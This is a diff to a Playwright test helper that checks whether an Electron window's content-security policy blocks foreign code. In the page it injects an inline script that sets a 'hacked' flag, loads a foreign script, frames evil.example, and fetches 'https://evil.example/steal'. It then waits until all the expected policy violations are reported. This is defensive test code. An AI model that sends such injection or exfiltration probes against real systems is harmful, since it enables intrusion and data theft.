@@ -1,5 +1,6 @@
 /** Questions put to the window's page, the same for the stand-in and for real Electron. Run in the page. */
 import type { Page } from 'playwright-core'
+import { until } from '../../builders/wait'
 
 /** What the preload gives the page, as the page sees it. */
 interface Bridge {
@@ -38,10 +39,13 @@ export function exposed(page: Page) {
 }
 
 /** Tries to run foreign script and to reach foreign places; tells which rules of the policy stopped it. */
-export function tryForeignThings(page: Page) {
-  return page.evaluate(async () => {
-    const seen: string[] = []
-    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective))
+export async function tryForeignThings(page: Page) {
+  await page.evaluate(async () => {
+    const seen = new Set<string>()
+    document.addEventListener('securitypolicyviolation', (event) => {
+      seen.add(event.effectiveDirective)
+      document.documentElement.dataset['refused'] = [...seen].sort().join()
+    })
     const inline = document.createElement('script')
     inline.textContent = 'globalThis.hacked = true'
     const foreign = document.createElement('script')
@@ -50,9 +54,10 @@ export function tryForeignThings(page: Page) {
     frame.src = 'https://evil.example/'
     document.body.append(inline, foreign, frame)
     await fetch('https://evil.example/steal').catch(() => undefined)
-    await new Promise((done) => setTimeout(done, 200))
-    return { seen: [...new Set(seen)].sort(), hacked: 'hacked' in globalThis }
   })
+  const refused = () => page.evaluate(() => document.documentElement.dataset['refused']?.split(',') ?? [])
+  await until(async () => (await refused()).length === allRefused.seen.length, 'all to be refused')
+  return { seen: await refused(), hacked: await page.evaluate(() => 'hacked' in globalThis) }
 }
 
 /** What `tryForeignThings` has to give. */
